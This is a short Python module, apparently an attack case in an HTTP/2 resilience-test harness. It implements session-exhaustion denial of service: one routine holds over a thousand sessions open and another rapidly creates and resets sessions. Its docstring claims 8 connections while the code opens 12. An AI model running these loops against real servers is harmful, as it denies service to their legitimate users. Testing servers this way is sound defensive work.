"""As many sessions as --max-sessions allows, opened and left alone; and others that come and go by the thousand.

Cost: 8 connections. Found: nobody else gets a session, for as long as it lasts.
"""

import http2
from attack import Attack, Target, run
from sessions import Session


def squat(target: Target) -> None:
    connections = [target.connect() for _ in range(12)]
    for connection in connections:
        for _ in range(110):
            connection.begin(http2.SESSION)
        connection.poll(0.1)
    while True:
        for connection in connections:
            connection.poll(0.05)


def churn(target: Target) -> None:
    connection = target.connect(1)
    while True:
        sessions = [Session(connection) for _ in range(20)]
        for i, session in enumerate(sessions):
            session.end() if i % 2 else connection.reset(session.call)
        connection.poll_until(lambda: all(session.call.ended for session in sessions[1::2]), 1.0)
        connection.calls.clear()


if __name__ == "__main__":
    run(Attack([squat, churn], {"--max-sessions": "1024"}))
